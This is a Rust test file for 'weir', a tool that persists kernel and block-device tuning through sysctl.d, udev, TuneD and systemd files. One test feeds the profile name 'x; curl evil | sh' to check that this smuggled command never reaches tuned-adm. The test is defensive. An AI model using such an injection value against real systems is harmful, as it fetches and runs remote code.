//! Files for the next boot.

use super::*;
use crate::owner::{Configuration, File};

fn kept(settings: &[(&str, &str)]) -> Vec<Kept> {
    let value = |text: &str| text.parse::<Setting>().unwrap();
    settings.iter().map(|(now, was)| Kept { setting: value(now), before: Some(value(was).value) }).collect()
}

fn both() -> Vec<Kept> {
    kept(&[
        ("vm.dirty_bytes=15000000", "vm.dirty_ratio=20"),
        ("vm.swappiness=1", "vm.swappiness=60"),
        ("sda/scheduler=mq-deadline", "sda/scheduler=none"),
        ("sda/iosched/fifo_batch=4", "sda/iosched/fifo_batch=16"),
        ("sda/bdi/max_ratio=50", "sda/bdi/max_ratio=100"),
    ])
}

/// The lines without comments.
fn body(persisted: &Persisted) -> Vec<&str> {
    persisted.text.lines().filter(|line| !line.starts_with('#') && !line.is_empty()).collect()
}

#[test]
fn each_keeper_says_it_in_its_own_words() {
    for (keeper, expected) in [
        (Keeper::Sysctl, &["vm.dirty_bytes = 15000000", "vm.swappiness = 1"][..]),
        (
            Keeper::Udev,
            &[
                r#"ACTION=="add|change", SUBSYSTEM=="block", KERNEL=="sda", ATTR{queue/scheduler}="mq-deadline""#,
                r#"ACTION=="add|change", SUBSYSTEM=="block", KERNEL=="sda", ATTR{queue/iosched/fifo_batch}="4""#,
                r#"ACTION=="add|change", SUBSYSTEM=="block", KERNEL=="sda", ATTR{bdi/max_ratio}="50""#,
            ],
        ),
        (
            Keeper::Tuned,
            &[
                "[main]",
                "summary=Settings by weir",
                "include=throughput-performance",
                "[sysctl]",
                "vm.dirty_bytes=15000000",
                "vm.swappiness=1",
                "[sysfs]",
                "/sys/block/sda/queue/scheduler=mq-deadline",
                "/sys/block/sda/queue/iosched/fifo_batch=4",
                "/sys/block/sda/bdi/max_ratio=50",
            ],
        ),
        (
            Keeper::Systemd,
            &[
                "[Unit]",
                "Description=Settings by weir",
                "Wants=dev-sda.device",
                "After=systemd-sysctl.service tuned.service dev-sda.device",
                "[Service]",
                "Type=oneshot",
                "RemainAfterExit=yes",
                "ExecStart=-/bin/sh -c 'echo 15000000 > /proc/sys/vm/dirty_bytes'",
                "ExecStart=-/bin/sh -c 'echo 1 > /proc/sys/vm/swappiness'",
                "ExecStart=-/bin/sh -c 'echo mq-deadline > /sys/block/sda/queue/scheduler'",
                "ExecStart=-/bin/sh -c 'echo 4 > /sys/block/sda/queue/iosched/fifo_batch'",
                "ExecStart=-/bin/sh -c 'echo 50 > /sys/block/sda/bdi/max_ratio'",
                "ExecStop=-/bin/sh -c 'echo 20 > /proc/sys/vm/dirty_ratio'",
                "ExecStop=-/bin/sh -c 'echo 60 > /proc/sys/vm/swappiness'",
                "ExecStop=-/bin/sh -c 'echo none > /sys/block/sda/queue/scheduler'",
                "ExecStop=-/bin/sh -c 'echo 16 > /sys/block/sda/queue/iosched/fifo_batch'",
                "ExecStop=-/bin/sh -c 'echo 100 > /sys/block/sda/bdi/max_ratio'",
                "[Install]",
                "WantedBy=multi-user.target",
            ],
        ),
    ] {
        let persisted = keeper.persist(&both(), Some("throughput-performance\n"));
        assert_eq!(body(&persisted), expected, "{keeper}");
        assert!(persisted.text.contains(&format!("weir knobs rollback --persist {keeper}")), "{keeper}");
    }
}

/// The kernel counts NVMe controllers in the order in which they answer, as it counts other disks.
#[test]
fn a_name_that_may_be_another_disks_is_noted() {
    let kept = kept(&[
        ("nvme0n1/scheduler=none", "nvme0n1/scheduler=bfq"),
        ("sda/scheduler=mq-deadline", "sda/scheduler=none"),
        ("nvme0n1/nr_requests=8", "nvme0n1/nr_requests=64"),
    ]);
    for keeper in [Keeper::Udev, Keeper::Tuned, Keeper::Systemd] {
        let notes = keeper.persist(&kept, None).notes;
        let says = " may be another disk after the next boot; ENV{ID_SERIAL}, as";
        let devices: Vec<&str> = notes.iter().filter_map(|note| Some(note.split_once(says)?.0)).collect();
        assert_eq!(devices, ["nvme0n1", "sda"], "{keeper}: {notes:?}");
    }
}

#[test]
fn a_profile_of_an_images_choice_is_no_command() {
    let then = |active: &str| Keeper::Tuned.persist(&both(), Some(active)).then_undo;
    assert_eq!(then("balanced my-own\n"), ["tuned-adm profile balanced my-own"]);
    assert_eq!(then("weir\n"), ["tuned-adm off"]);
    assert_eq!(then("x; curl evil | sh\n"), ["tuned-adm off"]);
}

#[test]
fn weir_finds_itself_as_the_owner_of_what_it_keeps() {
    let text = |keeper: Keeper| {
        let persisted = keeper.persist(&both(), None);
        vec![File { path: persisted.path, text: persisted.text }]
    };
    let configuration = Configuration {
        sysctl: text(Keeper::Sysctl),
        udev: text(Keeper::Udev),
        tuned: text(Keeper::Tuned),
        tuned_active: "weir".to_string(),
        units: text(Keeper::Systemd),
        ..Configuration::default()
    };
    for (knob, kinds) in [
        ("vm.dirty", &["systemd", "sysctl.d", "TuneD"][..]),
        ("vm.swappiness", &["systemd", "sysctl.d", "TuneD"]),
        ("sda/scheduler", &["systemd", "TuneD", "udev"]),
        ("sda/iosched/fifo_batch", &["systemd", "TuneD", "udev"]),
        ("sda/bdi/max_ratio", &["systemd", "TuneD", "udev"]),
        ("sdb/scheduler", &[]),
    ] {
        let owners = configuration.owners(&knob.parse().unwrap(), &|_| None);
        assert_eq!(owners.iter().map(|owner| owner.kind.as_str()).collect::<Vec<_>>(), kinds, "{knob}");
    }
}

#[test]
fn what_cannot_be_kept_is_said_with_what_can() {
    for (keeper, setting, why) in [
        (Keeper::Sysctl, "sda/nr_requests=4", "use udev, tuned or systemd"),
        (Keeper::Udev, "vm.swappiness=1", "use sysctl.d, tuned or systemd"),
        (Keeper::Systemd, "vm.drop_caches=3", "done once and not held"),
        (Keeper::Tuned, "bdi:0:44/max_ratio=5", "another one after the next mount"),
        (Keeper::Systemd, "sda/device_write_cache=write back", "the disk keeps it itself"),
        (
            Keeper::Systemd,
            "cgroup:/db.slice/memory.high=max",
            "systemctl set-property db.slice MemoryHigh=infinity",
        ),
        (
            Keeper::Systemd,
            "cgroup:/db.slice/io.max/8:0/wbps=1000",
            "systemctl set-property db.slice 'IOWriteBandwidthMax=/dev/block/8:0 1000'",
        ),
        (
            Keeper::Systemd,
            "cgroup:/db.slice/io.max/sda/wbps=50MB",
            "systemctl set-property db.slice 'IOWriteBandwidthMax=/dev/sda 50000000'",
        ),
        (
            Keeper::Systemd,
            "cgroup:/db.slice/io.latency/cciss!c0d0/target=75000",
            "systemctl set-property db.slice 'IODeviceLatencyTargetSec=/dev/cciss/c0d0 75000us'",
        ),
        (Keeper::Systemd, "cgroup:/made/io.weight=50", "the program that makes the cgroup"),
    ] {
        let one = Kept { setting: setting.parse().unwrap(), before: None };
        let persisted = keeper.persist(&[one], None);
        assert_eq!(persisted.left_out.len(), 1, "{setting}");
        assert!(persisted.left_out[0].why.contains(why), "{setting}: {}", persisted.left_out[0].why);
        assert!(
            !persisted.text.contains("echo") && keeper.found(&persisted.text) == Found::Kept(vec![]),
            "{setting}"
        );
    }
}

#[test]
fn a_file_says_what_it_keeps_and_later_settings_join() {
    for keeper in KEEPERS {
        let all = both();
        let persisted = keeper.persist(&all, None);
        let held: Vec<Kept> = all
            .into_iter()
            .filter(|one| persisted.left_out.iter().all(|out| out.setting != one.setting))
            .collect();
        assert_eq!(keeper.found(&persisted.text), Found::Kept(held), "{keeper}");
    }
    let damaged =
        format!("{MARK}\n# weir: nothing\n# weir: vm.swappiness=1, was much\n# weir: vm.swappiness=\n");
    let found = parse::kept(&damaged);
    assert_eq!(found.len(), 1, "{found:?}");
    let later = kept(&[("vm.swappiness=5", "vm.swappiness=1"), ("sda/nr_requests=8", "sda/nr_requests=64")]);
    let merged = merged(kept(&[("vm.swappiness=1", "vm.swappiness=60")]), later);
    let said: Vec<String> = merged.iter().map(|one| format!("{} {:?}", one.setting, one.before)).collect();
    assert_eq!(said, ["sda/nr_requests=8 Some(Number(64))", "vm.swappiness=5 Some(Number(60))"]);
}

/// The next settings, or a removal, would take what somebody wrote there.
#[test]
fn an_edited_file_is_known() {
    for keeper in KEEPERS {
        let text = keeper.persist(&both(), Some("balanced powersave")).text;
        assert!(matches!(keeper.found(&text), Found::Kept(_)), "{keeper}");
        assert_eq!(keeper.found(text.split_once('\n').unwrap().1), Found::Foreign, "{keeper}");
        let number = text.replace("15000000\n", "16000000\n").replace("4\"\n", "5\"\n");
        let number = number.replace("echo 4 ", "echo 5 ");
        let added = text.clone() + "# for the nightly dump\n";
        let (short, last) = text.trim_end().rsplit_once('\n').unwrap();
        for (edited, line) in [(&number, ""), (&added, "# for the nightly dump"), (&short.to_string(), last)]
        {
            let Found::Edited(found) = keeper.found(edited) else { panic!("{keeper}: {edited}") };
            assert!(line.is_empty() || found == line, "{keeper}: {found}");
        }
    }
}

#[test]
fn a_profile_keeps_what_lies_beneath_it() {
    let text = Keeper::Tuned.persist(&both(), Some("balanced powersave\n")).text;
    let base = |active: Option<&str>, text| base(active.map(str::to_string), text);
    assert_eq!(base(Some("weir\n"), Some(&text)).as_deref(), Some("balanced powersave"));
    assert_eq!(
        base(Some("throughput-performance\n"), Some(&text)).as_deref(),
        Some("throughput-performance\n")
    );
    assert_eq!((base(Some("weir\n"), None), base(None, None)), (None, None));
}

#[test]
fn whoever_has_the_last_word_at_boot_is_named() {
    let file = |path: &str, text: &str| File { path: path.to_string(), text: text.to_string() };
    let machine = Configuration {
        sysctl: vec![
            file("/etc/sysctl.d/10-early.conf", "vm.dirty_bytes=1"),
            file("/etc/sysctl.d/99-late.conf", "vm.swappiness=3"),
        ],
        ..Configuration::default()
    };
    for (keeper, expected) in [
        (
            Keeper::Sysctl,
            &["vm.swappiness=1 is overruled at boot by /etc/sysctl.d/99-late.conf:1, which sets 3"][..],
        ),
        (
            Keeper::Tuned,
            &[
                "vm.dirty_bytes=15000000 is overruled at boot by /etc/sysctl.d/10-early.conf:1, which sets bytes=1",
                "vm.swappiness=1 is overruled at boot by /etc/sysctl.d/99-late.conf:1, which sets 3",
            ],
        ),
        (Keeper::Systemd, &[]),
        (Keeper::Udev, &[]),
    ] {
        let persisted = keeper.persist(&both(), None);
        assert_eq!(overruled(keeper, &persisted, &both(), machine.clone()), expected, "{keeper}");
    }
}
